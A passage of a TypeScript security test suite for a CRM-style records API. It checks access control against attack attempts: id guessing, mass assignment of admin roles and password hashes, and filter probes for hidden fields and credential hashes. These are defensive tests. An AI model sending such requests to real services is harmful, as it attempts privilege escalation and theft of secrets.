// The security gate: every case of security-cases.md section A that applies to what the platform
// has today, each test named by its case id. Runs on SQLite and, with TEST_DATABASE_URL, PostgreSQL.
// Sessions/lockout/revocation basics live in sessions.test.ts and scopes/field rules in
// access.test.ts; the cases here add the attacks around them.
import { randomBytes } from 'node:crypto';
import { readdirSync, readFileSync, rmSync } from 'node:fs';
import { tmpdir } from 'node:os';
import { join } from 'node:path';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { createActorLoader } from '../../runtime/auth/actor.js';
import { hashPassword, verifyPassword } from '../../runtime/auth/passwords.js';
import { findUser } from '../../runtime/auth/users.js';
import { createToken } from '../../runtime/auth/sessions.js';
import { createRuntime, DefinitionInvalidError, loadAndCompile } from '../../runtime/index.js';
import { applyMigration, planFor } from '../../runtime/migrate/index.js';
import { allowAll, asSystem, type Ctx } from '../../runtime/records/context.js';
import { createRecord, getRecord, listRecords, parseListQuery } from '../../runtime/records/index.js';
import { escapeCsvCell } from '../../runtime/records/export.js';
import { PASSWORD, startSecureFixture, type SecureFixture, type Who } from '../helpers/secureFixture.js';
import { createTestRuntime, openTestDb, PG_URL, q, ROOT, startTestServer } from '../helpers/testRuntime.js';
import { cleanTempDirs, countRows, expectCleanProblem, parseCsv, rawRequest, secureAppVariant, startSmallApp, tableHash, type SmallApp } from './caseHelpers.js';

let f: SecureFixture;
const acc: Record<string, number> = {};
const deal: Record<string, number> = {};
let note1 = 0;
let seq = 0;
const uniq = (p: string): string => `${p}-${++seq}-${randomBytes(3).toString('hex')}`;

beforeAll(async () => {
  f = await startSecureFixture();
  const mk = async (name: string, owner: number | null): Promise<number> => {
    const res = await f.as('admin', 'POST', '/api/v1/account', { body: { name, code: name, owner, credit_limit: '1000.00', secret_note: `secret of ${name}`, grade: 'A' } });
    expect(res.status, JSON.stringify(res.body)).toBe(201);
    return res.body.data.id;
  };
  acc.rep1 = await mk('R1-Account', f.ids.rep1);
  acc.rep2 = await mk('R2-Account', f.ids.rep2);
  acc.rep3 = await mk('R3-Account', f.ids.rep3);
  acc.pool = await mk('Pool-Account', null);
  for (const who of ['rep1', 'rep2', 'rep3'] as const) {
    const res = await f.as(who, 'POST', '/api/v1/deal', { body: { title: `${who} deal`, amount: '10.00', account: acc[who] } });
    expect(res.status, JSON.stringify(res.body)).toBe(201);
    deal[who] = res.body.data.id;
  }
  const n = await f.as('admin', 'POST', '/api/v1/note', { body: { body: 'note of R1', account: acc.rep1 } });
  expect(n.status).toBe(201);
  note1 = n.body.data.id;
});
afterAll(async () => {
  await f.close();
  cleanTempDirs();
});

async function login(email: string, password: string): Promise<{ status: number; body: Record<string, unknown>; ms: number; setCookie: string[] }> {
  const started = performance.now();
  const res = await fetch(`${f.api.url}/api/v1/_auth/login`, { method: 'POST', headers: { 'content-type': 'application/json' }, body: JSON.stringify({ email, password }) });
  const body = (await res.json()) as Record<string, unknown>;
  return { status: res.status, body, ms: performance.now() - started, setCookie: res.headers.getSetCookie() };
}
/** .ts files under the given folders of the repository, as repository-relative paths. */
function sourceFiles(dirs: string[]): string[] {
  const out: string[] = [];
  const walk = (rel: string): void => {
    for (const e of readdirSync(join(ROOT, rel), { withFileTypes: true })) {
      const path = `${rel}/${e.name}`;
      if (e.isDirectory()) walk(path);
      else if (e.name.endsWith('.ts')) out.push(path);
    }
  };
  for (const d of dirs) walk(d);
  return out;
}
const withoutRequestId = (b: Record<string, unknown>): Record<string, unknown> => Object.fromEntries(Object.entries(b).filter(([k]) => k !== 'requestId'));

// ---------------------------------------------------------------------------------------------
// The access matrix: every generated route × every role, from the role files of the fixture.
// ---------------------------------------------------------------------------------------------

type Ent = 'account' | 'deal' | 'note';
type Act = 'read' | 'create' | 'update' | 'delete' | 'export';
type Route = 'list' | 'get' | 'create' | 'bulk' | 'patch' | 'delete' | 'export' | 'audit' | 'meta';
/** On the target record (owned by rep1, team east): true = allowed on it; 'out' = a scoped grant that does not reach it; false = no grant. */
type May = true | 'out' | false;
const all = (v: May): Record<Act, May> => ({ read: v, create: v, update: v, delete: v, export: v });
const readExport: Record<Act, May> = { read: true, create: false, update: false, delete: false, export: false };
const repOwn: Record<Ent, Record<Act, May>> = {
  account: { read: true, create: true, update: true, delete: false, export: false },
  deal: { read: true, create: true, update: true, delete: true, export: false },
  note: all(false),
};
const repOther: Record<Ent, Record<Act, May>> = {
  account: { read: 'out', create: true, update: 'out', delete: false, export: false },
  deal: { read: 'out', create: true, update: 'out', delete: 'out', export: false },
  note: all(false),
};
const ROLE_TABLE: Record<Who, Record<Ent, Record<Act, May>>> = {
  admin: { account: all(true), deal: all(true), note: all(true) },
  // manager: "*" read/create/update/export; deal delete scoped to own + subordinates (rep1 is one)
  manager: { account: { ...all(true), delete: false }, deal: all(true), note: { ...all(true), delete: false } },
  rep1: repOwn,
  rep2: repOther,
  rep3: repOther,
  // team_lead: account owner in the team, deal owner.team = team; nothing else
  lead: { account: readExport, deal: readExport, note: all(false) },
  viewer: { account: { ...readExport, export: true }, deal: { ...readExport, export: true }, note: { ...readExport, export: true } },
  nobody: { account: all(false), deal: all(false), note: all(false) },
};

function allowed(who: Who, ent: Ent, route: Route): number[] {
  const m = ROLE_TABLE[who][ent];
  if (m.read === false) return [404]; // an entity without any grant does not exist for the caller
  switch (route) {
    case 'list': case 'meta': return [200];
    case 'get': case 'audit': return m.read === true ? [200] : [404]; // out of scope: 404, never 403
    case 'export': return m.export === true ? [200] : [403];
    case 'create': return m.create === true ? [201] : [403];
    case 'bulk': return m.create === false || m.update === false ? [403] : ent === 'account' ? [200] : [422]; // only account declares a match key
    case 'patch': return m.update === false ? [403] : m.update === true ? [200] : [404];
    case 'delete': return m.delete === false ? [403] : m.delete === true ? [204] : [404];
  }
}

const target = (ent: Ent): number => (ent === 'account' ? acc.rep1 : ent === 'deal' ? deal.rep1 : note1);
const createBody = (ent: Ent, who: Who): Record<string, unknown> =>
  ent === 'account' ? { name: `M ${who}`, code: uniq('m') } : ent === 'deal' ? { title: `M ${who}` } : { body: `M ${who}`, account: acc.rep1 };
const patchBody = (ent: Ent): Record<string, unknown> => (ent === 'account' ? { name: 'R1-Account' } : ent === 'deal' ? { title: 'rep1 deal' } : { body: 'note of R1' });

async function freshRecord(ent: Ent): Promise<number> {
  const body = ent === 'account' ? { name: 'to delete', code: uniq('d'), owner: f.ids.rep1 } : ent === 'deal' ? { title: 'to delete', owner: f.ids.rep1, stage: 'new' } : { body: 'to delete', account: acc.rep1 };
  const res = await f.as('admin', 'POST', `/api/v1/${ent}`, { body });
  expect(res.status).toBe(201);
  return res.body.data.id;
}

async function call(who: Who, ent: Ent, route: Route): Promise<{ status: number; body: unknown }> {
  const base = `/api/v1/${ent}`;
  switch (route) {
    case 'list': return f.as(who, 'GET', base);
    case 'get': return f.as(who, 'GET', `${base}/${target(ent)}`);
    case 'audit': return f.as(who, 'GET', `${base}/${target(ent)}/_audit`);
    case 'meta': return f.as(who, 'GET', `/api/v1/_meta/entities/${ent}`);
    case 'export': return f.as(who, 'GET', `${base}/_export`);
    case 'create': return f.as(who, 'POST', base, { body: createBody(ent, who) });
    case 'bulk': {
      const matchKey = ent === 'account' ? ['code'] : ent === 'deal' ? ['title'] : ['body'];
      return f.as(who, 'POST', `${base}/_bulk`, { body: { upsert: { matchKey }, records: [createBody(ent, who)] } });
    }
    case 'patch': return f.as(who, 'PATCH', `${base}/${target(ent)}`, { body: patchBody(ent) });
    case 'delete': return f.as(who, 'DELETE', `${base}/${await freshRecord(ent)}`);
  }
}

// Before and after: a change must leave the record inside the update scope, a new record must lie
// inside the create scope. "Out" means owned by the user without roles, outside every scope.
type OutRoute = 'patchOut' | 'createOut' | 'bulkOut';
/** Whether the role's update (after the change) and create grants on the entity are unscoped. */
const UNSCOPED: Record<Who, Record<Ent, { updateTo: boolean; create: boolean }>> = {
  admin: { account: { updateTo: true, create: true }, deal: { updateTo: true, create: true }, note: { updateTo: true, create: true } },
  manager: { account: { updateTo: true, create: true }, deal: { updateTo: true, create: true }, note: { updateTo: true, create: true } },
  rep1: { account: { updateTo: false, create: true }, deal: { updateTo: false, create: false }, note: { updateTo: false, create: false } },
  rep2: { account: { updateTo: false, create: true }, deal: { updateTo: false, create: false }, note: { updateTo: false, create: false } },
  rep3: { account: { updateTo: false, create: true }, deal: { updateTo: false, create: false }, note: { updateTo: false, create: false } },
  lead: { account: { updateTo: false, create: false }, deal: { updateTo: false, create: false }, note: { updateTo: false, create: false } },
  viewer: { account: { updateTo: false, create: false }, deal: { updateTo: false, create: false }, note: { updateTo: false, create: false } },
  nobody: { account: { updateTo: false, create: false }, deal: { updateTo: false, create: false }, note: { updateTo: false, create: false } },
};

function allowedOut(who: Who, ent: Ent, route: OutRoute): number[] {
  const m = ROLE_TABLE[who][ent];
  const u = UNSCOPED[who][ent];
  if (m.read === false) return [404];
  switch (route) {
    case 'patchOut': return m.update === false ? [403] : m.update === 'out' ? [404] : u.updateTo ? [200] : [403];
    case 'createOut': return m.create === false ? [403] : u.create ? [201] : [403];
    case 'bulkOut': return m.create === false || m.update === false ? [403] : ent !== 'account' ? [422] : u.create ? [200] : [403];
  }
}

async function callOut(who: Who, ent: Ent, route: OutRoute): Promise<{ status: number; body: unknown }> {
  const out = f.ids.nobody;
  const base = `/api/v1/${ent}`;
  const owned = (e: Ent): Record<string, unknown> => (e === 'note' ? {} : { owner: out });
  switch (route) {
    case 'patchOut': {
      // a fresh record of rep1 (the matrix target's owner), moved out of every scope
      const id = await freshRecord(ent);
      return f.as(who, 'PATCH', `${base}/${id}`, { body: ent === 'note' ? { body: 'moved' } : { owner: out } });
    }
    case 'createOut': return f.as(who, 'POST', base, { body: { ...createBody(ent, who), ...owned(ent) } });
    case 'bulkOut': {
      const matchKey = ent === 'account' ? ['code'] : ent === 'deal' ? ['title'] : ['body'];
      return f.as(who, 'POST', `${base}/_bulk`, { body: { upsert: { matchKey }, records: [{ ...createBody(ent, who), ...owned(ent) }] } });
    }
  }
}

const WHO: Who[] = ['admin', 'manager', 'rep1', 'rep2', 'rep3', 'lead', 'viewer', 'nobody'];
const ROUTES: Route[] = ['list', 'get', 'audit', 'meta', 'export', 'create', 'bulk', 'patch', 'delete'];

describe('AZ-01/AZ-02/AZ-09 access matrix: every generated route × every role', () => {
  for (const ent of ['account', 'deal', 'note'] as Ent[]) {
    for (const route of ROUTES) {
      it.each(WHO)(`AZ-01/AZ-09 matrix: ${ent} ${route} as %s`, async (who) => {
        const res = await call(who, ent, route);
        const expected = allowed(who, ent, route);
        expect(res.status, `${who} ${route} ${ent}: ${JSON.stringify(res.body).slice(0, 200)}`).not.toBe(500);
        expect(expected, `${who} ${route} ${ent}: ${JSON.stringify(res.body).slice(0, 200)}`).toContain(res.status);
      });
    }
  }
});

describe('AZ-01/AZ-03 scopes before and after: every write route family × every role', () => {
  for (const ent of ['account', 'deal', 'note'] as Ent[]) {
    for (const route of ['patchOut', 'createOut', 'bulkOut'] as OutRoute[]) {
      it.each(WHO)(`AZ-01/AZ-03 matrix: ${ent} ${route} as %s`, async (who) => {
        const before = await tableHash(f.rt.db.knex, ent);
        const res = await callOut(who, ent, route);
        const expected = allowedOut(who, ent, route);
        expect(expected, `${who} ${route} ${ent}: ${JSON.stringify(res.body).slice(0, 200)}`).toContain(res.status);
        // a refused write leaves the table as the fresh record left it
        if (res.status >= 400 && route !== 'patchOut') expect(await tableHash(f.rt.db.knex, ent)).toBe(before);
      });
    }
  }
});

// ---------------------------------------------------------------------------------------------
// AZ: authorization
// ---------------------------------------------------------------------------------------------

describe('AZ authorization', () => {
  it('AZ-01 guessing sequential ids: every deal of another owner is 404 to read, change or delete, and stays unchanged', async () => {
    const before = await tableHash(f.rt.db.knex, 'deal');
    const max = Number((await f.rt.db.knex('deal').max({ m: 'id' }))[0].m);
    const mine = new Set(((await f.as('rep2', 'GET', `/api/v1/deal${q({ limit: '500' })}`)).body.data as { id: number }[]).map((d) => d.id));
    for (let id = 1; id <= max + 2; id++) {
      if (mine.has(id)) continue;
      for (const [method, body] of [['GET', undefined], ['PATCH', { title: 'hijacked' }], ['DELETE', undefined]] as const) {
        const res = await f.as('rep2', method, `/api/v1/deal/${id}`, body ? { body } : {});
        expect(res.status, `${method} ${id}`).toBe(404);
      }
    }
    expect(await tableHash(f.rt.db.knex, 'deal')).toBe(before);
  });

  it('AZ-02 secondary routes decide like the main route: audit, export, expand, explain, count', async () => {
    expect((await f.as('rep1', 'GET', `/api/v1/deal/${deal.rep2}/_audit`)).status).toBe(404);
    expect((await f.as('lead', 'GET', `/api/v1/deal/${deal.rep3}/_audit`)).status).toBe(404);
    const exp = await f.as('viewer', 'GET', '/api/v1/deal/_export');
    expect(exp.status).toBe(200);
    const explain = await f.as('rep1', 'GET', `/api/v1/_access/explain${q({ entity: 'deal', id: String(deal.rep2) })}`);
    expect(explain.body.data.record).toEqual({ id: deal.rep2, visible: false });
    const count = await f.as('rep1', 'GET', `/api/v1/deal${q({ count: 'true' })}`);
    expect(count.body.meta.count).toBe(count.body.data.length);
    expect(count.body.data.every((d: { owner: number }) => d.owner === f.ids.rep1)).toBe(true);
    // one-to-many expansion counts and lists only what the caller may read
    const other = await f.as('admin', 'POST', '/api/v1/deal', { body: { title: 'rep2 deal on R1 account', owner: f.ids.rep2, account: acc.rep1 } });
    const expanded = await f.as('rep1', 'GET', `/api/v1/account/${acc.rep1}?expand=deals`);
    expect(expanded.body.data.deals.data.map((d: { owner: number }) => d.owner)).toEqual(expanded.body.data.deals.data.map(() => f.ids.rep1));
    expect(expanded.body.data.deals.meta.count).toBe(expanded.body.data.deals.data.length);
    await f.as('admin', 'DELETE', `/api/v1/deal/${other.body.data.id}`);
  });

  it('AZ-03 a refused write leaves the tables byte-identical and writes no audit row', async () => {
    const k = f.rt.db.knex;
    const snapshot = async () => [await tableHash(k, 'account'), await tableHash(k, 'deal'), await tableHash(k, 'note'), await countRows(k, '_audit')];
    const before = await snapshot();
    const attempts: [Who, string, string, unknown, number[]][] = [
      ['rep1', 'PATCH', `/api/v1/account/${acc.rep1}`, { name: 'renamed', grade: 'C' }, [422]], // read-only field in the same body
      ['rep1', 'PATCH', `/api/v1/account/${acc.rep1}`, { name: 'renamed', credit_limit: '1.00' }, [422]], // hidden field
      ['rep1', 'POST', '/api/v1/deal', { title: 'for rep2', owner: f.ids.rep2 }, [403]], // outside the create scope: written, checked, rolled back
      ['rep1', 'DELETE', `/api/v1/account/${acc.rep1}`, undefined, [403]],
      ['rep3', 'DELETE', `/api/v1/deal/${deal.rep1}`, undefined, [404]],
      ['lead', 'PATCH', `/api/v1/deal/${deal.rep1}`, { title: 'lead was here' }, [403]],
      ['viewer', 'POST', '/api/v1/note', { body: 'viewer note' }, [403]],
      ['viewer', 'POST', '/api/v1/account/_bulk', { upsert: { matchKey: ['code'] }, records: [{ code: 'R1-Account', name: 'bulk hijack' }] }, [403]],
      ['rep1', 'POST', '/api/v1/account/_bulk', { upsert: { matchKey: ['code'] }, records: [{ code: 'R1-Account', name: 'ok' }, { code: 'R2-Account', name: 'hijack' }] }, [404, 409]],
      ['nobody', 'PATCH', `/api/v1/deal/${deal.rep1}`, { title: 'x' }, [404]],
    ];
    for (const [who, method, path, body, statuses] of attempts) {
      const res = await f.as(who, method, path, body === undefined ? {} : { body });
      expect(statuses, `${who} ${method} ${path}: ${JSON.stringify(res.body).slice(0, 200)}`).toContain(res.status);
    }
    expect(await snapshot()).toEqual(before);
  });

  it('AZ-04 there is no collection-wide PATCH/DELETE; bulk upsert only touches records in scope and reports counts', async () => {
    const before = await tableHash(f.rt.db.knex, 'deal');
    for (const method of ['PATCH', 'DELETE', 'PUT'] as const) {
      for (const path of ['/api/v1/deal', `/api/v1/deal${q({ filter: {} })}`, `/api/v1/deal${q({ filter: { id: { gt: 0 } } })}`]) {
        const res = await f.as('admin', method, path, method === 'DELETE' ? {} : { body: { stage: 'won' } });
        expect([400, 404, 405], `${method} ${path}`).toContain(res.status);
      }
    }
    expect(await tableHash(f.rt.db.knex, 'deal')).toBe(before);
    const own = await f.as('rep1', 'POST', '/api/v1/account/_bulk', { body: { upsert: { matchKey: ['code'] }, records: [{ code: 'R1-Account', name: 'R1-Account' }, { code: uniq('new'), name: 'New one' }] } });
    expect(own.status).toBe(200);
    expect(own.body.meta).toEqual({ created: 1, updated: 1 });
  });

  it('AZ-05 expansion applies record scopes and field rules at every depth; filters can not probe related records out of scope', async () => {
    const deep = await f.as('rep1', 'GET', `/api/v1/deal/${deal.rep1}?expand=account.deals.account`);
    expect(deep.status).toBe(200);
    const text = JSON.stringify(deep.body);
    expect(text).not.toContain('credit_limit');
    expect(text).not.toContain('secret of');
    // a deal the lead may read, on an account the lead may not read
    const cross = await f.as('admin', 'POST', '/api/v1/deal', { body: { title: 'cross-team', owner: f.ids.rep2, account: acc.rep3 } });
    const id = cross.body.data.id;
    const expanded = await f.as('lead', 'GET', `/api/v1/deal/${id}?expand=account`);
    expect(expanded.status).toBe(200);
    expect(expanded.body.data.account).toBe(acc.rep3); // not expanded
    const trimmed = await f.as('lead', 'GET', `/api/v1/deal/${id}?fields=account.secret_note`);
    expect(JSON.stringify(trimmed.body)).not.toContain('secret of');
    // boolean oracle: a filter through the relation must not tell a right guess from a wrong one
    const right = await f.as('lead', 'GET', `/api/v1/deal${q({ filter: { 'account.secret_note': { startsWith: 'secret of R3' } } })}`);
    const wrong = await f.as('lead', 'GET', `/api/v1/deal${q({ filter: { 'account.secret_note': { startsWith: 'nothing like it' } } })}`);
    expect(right.status).toBe(200);
    expect(right.body.data).toEqual(wrong.body.data);
    const negated = await f.as('lead', 'GET', `/api/v1/deal${q({ filter: { not: { 'account.name': { eq: 'R3-Account' } } } })}`);
    const negatedWrong = await f.as('lead', 'GET', `/api/v1/deal${q({ filter: { not: { 'account.name': { eq: 'Nope' } } } })}`);
    expect(negated.body.data.map((d: { id: number }) => d.id)).toEqual(negatedWrong.body.data.map((d: { id: number }) => d.id));
    // and to-many quantifiers only see related records in scope
    const hidden = await f.as('admin', 'POST', '/api/v1/deal', { body: { title: 'hidden deal on R1', owner: f.ids.rep2, account: acc.rep1 } });
    const some = await f.as('rep1', 'GET', `/api/v1/account${q({ filter: { deals: { some: { title: { eq: 'hidden deal on R1' } } } } })}`);
    expect(some.body.data).toEqual([]);
    const none = await f.as('rep1', 'GET', `/api/v1/account${q({ filter: { deals: { none: { title: { eq: 'hidden deal on R1' } } } } })}`);
    expect(none.body.data.map((a: { name: string }) => a.name)).toContain('R1-Account');
    await f.as('admin', 'DELETE', `/api/v1/deal/${hidden.body.data.id}`);
    // hidden fields stay unknown at every depth of a filter
    expect((await f.as('rep1', 'GET', `/api/v1/deal${q({ filter: { 'account.credit_limit': { gt: '0' } } })}`)).status).toBe(400);
    await f.as('admin', 'DELETE', `/api/v1/deal/${id}`);
  });

  it('AZ-07 users can not edit their own record: roles, team, manager or status that feed record scopes', async () => {
    const before = await tableHash(f.rt.db.knex, '_users');
    for (const body of [{ team: 'west' }, { roles: ['admin'] }, { manager: null }, { status: 'active' }, { department: 'x' }]) {
      expect((await f.as('rep1', 'PATCH', `/api/v1/_users/${f.ids.rep1}`, { body })).status).toBe(403);
      expect((await f.as('lead', 'PATCH', `/api/v1/_users/${f.ids.rep1}`, { body })).status).toBe(403);
    }
    // the only self-service write is the password, and it takes nothing else
    const sneakyBody = { currentPassword: PASSWORD, newPassword: 'another long passphrase', team: 'west', roles: ['admin'] };
    // a token changes credentials only with the explicit "credentials" scope
    expect((await f.as('rep1', 'POST', '/api/v1/_auth/password', { body: sneakyBody })).status).toBe(403);
    const credentials = (await createToken(f.rt.db.knex, f.ids.rep1, { name: 'credentials', scopes: ['credentials'] })).token;
    const sneaky = await f.api.request('POST', '/api/v1/_auth/password', { body: sneakyBody, headers: { authorization: `Bearer ${credentials}` } });
    expect(sneaky.status).toBe(422);
    expect(sneaky.body.errors.map((e: { pointer: string }) => e.pointer).sort()).toEqual(['/roles', '/team']);
    expect(await tableHash(f.rt.db.knex, '_users')).toBe(before);
  });

  it('AZ-09 no definition, schema or plugin endpoint exists over HTTP; admin endpoints refuse every other role', async () => {
    const absent: [string, string][] = [
      ['POST', '/api/v1/_definitions'], ['PUT', '/api/v1/_definitions/account'], ['PATCH', '/api/v1/_definitions/account'], ['POST', '/api/v1/_schema/apply'],
      ['POST', '/api/v1/_migrations'], ['POST', '/api/v1/_plugins'], ['POST', '/api/v1/_roles'], ['PUT', '/api/v1/_meta/entities/account'],
      ['POST', '/api/v1/_meta/entities'], ['DELETE', '/api/v1/_audit'], ['POST', '/api/v1/_audit'], ['DELETE', '/api/v1/_users/2'], ['POST', '/api/v1/_setup'],
    ];
    for (const who of ['admin', 'rep1'] as Who[]) {
      for (const [method, path] of absent) {
        const res = await f.as(who, method, path, method === 'DELETE' ? {} : { body: { name: 'x' } });
        expect([404, 405], `${who} ${method} ${path}`).toContain(res.status);
      }
    }
    const adminOnly: [string, string, unknown][] = [
      ['GET', '/api/v1/_users', undefined], ['POST', '/api/v1/_users', { email: 'x-az09@example.com', roles: ['admin'] }],
      ['PATCH', `/api/v1/_users/${f.ids.rep2}`, { roles: ['admin'] }], ['GET', `/api/v1/_audit${q({ user: String(f.ids.admin) })}`, undefined],
    ];
    for (const who of WHO.filter((w) => w !== 'admin')) {
      for (const [method, path, body] of adminOnly) {
        // with the credentials scope, so the refusal is the role's, not the token's
        const res = await f.asCredentials(who, method, path, body === undefined ? {} : { body });
        expect(res.status, `${who} ${method} ${path}`).toBe(403);
      }
    }
    expect(await f.rt.db.knex('_users').where({ email: 'x-az09@example.com' }).first()).toBeUndefined();
  });

  it('AZ-10 a role or team change applies to the very next request of an existing token', async () => {
    expect((await f.as('rep3', 'POST', '/api/v1/deal', { body: { title: 'before demotion' } })).status).toBe(201);
    expect((await f.asCredentials('admin', 'PATCH', `/api/v1/_users/${f.ids.rep3}`, { body: { roles: ['viewer'] } })).status).toBe(200);
    expect((await f.as('rep3', 'POST', '/api/v1/deal', { body: { title: 'after demotion' } })).status).toBe(403);
    expect((await f.asCredentials('admin', 'PATCH', `/api/v1/_users/${f.ids.rep3}`, { body: { roles: ['rep'] } })).status).toBe(200);
    const east = (await f.as('lead', 'GET', '/api/v1/account')).body.data.map((a: { name: string }) => a.name);
    expect(east).toContain('R1-Account');
    await f.asCredentials('admin', 'PATCH', `/api/v1/_users/${f.ids.lead}`, { body: { team: 'west' } });
    const west = (await f.as('lead', 'GET', '/api/v1/account')).body.data.map((a: { name: string }) => a.name);
    expect(west).not.toContain('R1-Account');
    expect(west).toContain('R3-Account');
    await f.asCredentials('admin', 'PATCH', `/api/v1/_users/${f.ids.lead}`, { body: { team: 'east' } });
  });

  it('AZ-11 the records layer enforces access by itself; bypassing it takes an explicit, grep-able asSystem', async () => {
    const loader = createActorLoader(f.rt.db.knex);
    const ctx: Ctx = { actor: await loader.actorFor((await findUser(f.rt.db.knex, f.ids.rep1))!), via: 'automation', requestId: 'az11-test' };
    await expect(getRecord(f.rt, { entity: 'deal', id: deal.rep2, ctx })).rejects.toMatchObject({ code: 'NOT_FOUND' });
    await expect(createRecord(f.rt, { entity: 'note', data: { body: 'x' }, ctx })).rejects.toMatchObject({ code: 'NOT_FOUND' });
    const entity = f.rt.app.entities.get('deal')!;
    const mine = await listRecords(f.rt, { entity: 'deal', ctx, query: parseListQuery(f.rt.app, entity, { limit: '500' }) });
    expect(mine.data.every((d) => d.owner === f.ids.rep1)).toBe(true);
    const system = await getRecord(f.rt, { entity: 'deal', id: deal.rep2, ctx: asSystem('az-11 test') });
    expect(system.id).toBe(deal.rep2);
    // Every place that acts as the platform itself is known; a new one must be added here on purpose.
    const allowedFiles = ['runtime/records/context.ts', 'runtime/seed.ts', 'runtime/pipelines/operations.ts', 'server/http/context.ts', 'server/http/auth.ts', 'runtime/automation/actor.ts'];
    const offenders = sourceFiles(['runtime', 'server'])
      .filter((file) => !file.startsWith('server/cli/') && !allowedFiles.includes(file))
      .filter((file) => /actor:\s*\{\s*kind:\s*'system'|\basSystem\(/.test(readFileSync(join(ROOT, file), 'utf8')));
    expect(offenders, 'system (access-bypassing) contexts outside the known places').toEqual([]);
  });

  it('AZ-12 twenty parallel creations of the same user: exactly one 201, the rest 409, one row', async () => {
    const results = await Promise.all(Array.from({ length: 20 }, () => f.asCredentials('admin', 'POST', '/api/v1/_users', { body: { email: 'race-az12@example.com', password: 'a long enough password', roles: ['admin'] } })));
    const statuses = results.map((r) => r.status).sort();
    expect(statuses).toEqual([201, ...Array(19).fill(409)]);
    expect(Number((await f.rt.db.knex('_users').where({ email: 'race-az12@example.com' }).count({ n: '*' }))[0].n)).toBe(1);
  });
});

// ---------------------------------------------------------------------------------------------
// MA / FQ: what a body and a query may name
// ---------------------------------------------------------------------------------------------

describe('MA mass assignment and projection', () => {
  it('MA-01 privileged keys on create and patch are each named (422) and nothing is stored', async () => {
    const before = [await tableHash(f.rt.db.knex, 'deal'), await countRows(f.rt.db.knex, '_audit')];
    const keys = { id: 999, created_at: '2000-01-01T00:00:00.000Z', updated_at: '2000-01-01T00:00:00.000Z', created_by: f.ids.admin, updated_by: f.ids.admin, version: 9, role: 'admin', roles: ['admin'], isAdmin: true, owner_id: 1, tenant_id: 2, password_hash: 'x' };
    const created = await f.as('rep1', 'POST', '/api/v1/deal', { body: { title: 'mass', ...keys } });
    expect(created.status).toBe(422);
    expect(created.body.errors.map((e: { pointer: string }) => e.pointer).sort()).toEqual(Object.keys(keys).map((k) => `/${k}`).sort());
    const patched = await f.as('rep1', 'PATCH', `/api/v1/deal/${deal.rep1}`, { body: { title: 'mass', ...keys } });
    expect(patched.status).toBe(422);
    expect(patched.body.errors).toHaveLength(Object.keys(keys).length);
    expect([await tableHash(f.rt.db.knex, 'deal'), await countRows(f.rt.db.knex, '_audit')]).toEqual(before);
    const user = await f.asCredentials('admin', 'POST', '/api/v1/_users', { body: { email: 'ma01@example.com', status: 'active', password_hash: 'scrypt$1$1$1$x$y', id: 1 } });
    expect(user.status).toBe(422);
    expect(await f.rt.db.knex('_users').where({ email: 'ma01@example.com' }).first()).toBeUndefined();
  });

  it('MA-01 bulk upsert refuses system fields, hidden fields and writing for another owner; nothing is stored', async () => {
    const k = f.rt.db.knex;
    const before = [await tableHash(k, 'account'), await tableHash(k, 'deal'), await countRows(k, '_audit')];
    const bulk = (who: Who, entity: string, records: unknown[]) => f.as(who, 'POST', `/api/v1/${entity}/_bulk`, { body: { upsert: { matchKey: ['code'] }, records } });
    const system = await bulk('rep1', 'account', [{ code: 'R1-Account', name: 'x' }, { code: uniq('ma'), name: 'y', id: 1, created_by: f.ids.admin, version: 3 }]);
    expect(system.status).toBe(422);
    expect(system.body.errors.map((e: { pointer: string }) => e.pointer).sort()).toEqual(['/records/1/created_by', '/records/1/id', '/records/1/version']);
    const hidden = await bulk('rep1', 'account', [{ code: 'R1-Account', credit_limit: '99999.00', secret_note: 'mine now' }]);
    expect(hidden.status).toBe(422);
    expect(hidden.body.errors.map((e: { code: string }) => e.code)).toEqual(['unknown_field', 'unknown_field']);
    const readOnly = await bulk('rep1', 'account', [{ code: 'R1-Account', grade: 'C' }]);
    expect(readOnly.status).toBe(422);
    const otherOwner = await bulk('rep1', 'account', [{ code: 'R2-Account', owner: f.ids.rep1, name: 'mine now' }]);
    expect([404, 409]).toContain(otherOwner.status);
    const unknownKey = await bulk('rep1', 'account', [{ code: uniq('ma'), name: 'z', owner_id: f.ids.rep2 }]);
    expect(unknownKey.status).toBe(422);
    expect([await tableHash(k, 'account'), await tableHash(k, 'deal'), await countRows(k, '_audit')]).toEqual(before);
  });

  it('MA-02 a field the caller may not write refuses the whole patch: no partial apply', async () => {
    const before = await f.as('admin', 'GET', `/api/v1/account/${acc.rep1}`);
    const res = await f.as('rep1', 'PATCH', `/api/v1/account/${acc.rep1}`, { body: { name: 'partially applied?', grade: 'C' } });
    expect(res.status).toBe(422);
    expect(res.body.errors).toEqual([expect.objectContaining({ pointer: '/grade', code: 'read_only_field' })]);
    const after = await f.as('admin', 'GET', `/api/v1/account/${acc.rep1}`);
    expect(after.body.data).toEqual(before.body.data);
  });

  it('MA-03 projections never return secrets: fields=*, password fields, user rows and expanded users', async () => {
    for (const fields of ['*', 'password', 'password_hash', 'owner.password_hash', 'owner.*', 'secret_note']) {
      expect((await f.as('rep1', 'GET', `/api/v1/account${q({ fields })}`)).status, fields).toBe(400);
    }
    const users = await f.as('admin', 'GET', '/api/v1/_users');
    expect(JSON.stringify(users.body)).not.toMatch(/password|scrypt|token/i);
    const expanded = await f.as('rep1', 'GET', `/api/v1/deal/${deal.rep1}?expand=owner`);
    expect(Object.keys(expanded.body.data.owner).sort()).toEqual(['email', 'id', 'name']);
    const me = await f.as('rep1', 'GET', '/api/v1/_auth/me');
    expect(JSON.stringify(me.body)).not.toMatch(/password|scrypt/i);
    const tokens = await f.as('admin', 'GET', '/api/v1/_auth/tokens');
    expect(JSON.stringify(tokens.body)).not.toMatch(/crmt_|token_hash/);
  });
});

describe('FQ filters and queries', () => {
  it('FQ-01 user secrets are not filterable or sortable, at any depth', async () => {
    const probes = [
      q({ filter: { 'owner.password_hash': { startsWith: 'scrypt' } } }), q({ filter: { 'owner.password': { eq: 'x' } } }),
      q({ filter: { 'account.owner.password_hash': { startsWith: '$2a' } } }), q({ filter: { 'owner.token_hash': { eq: 'a' } } }),
      q({ sort: 'owner.password_hash' }), q({ filter: { 'created_by.password_hash': { contains: 'a' } } }),
    ];
    for (const probe of probes) {
      const res = await f.as('rep1', 'GET', `/api/v1/deal${probe}`);
      expect(res.status, probe).toBe(400);
      expect(res.body.code).toBe('INVALID_QUERY');
    }
  });

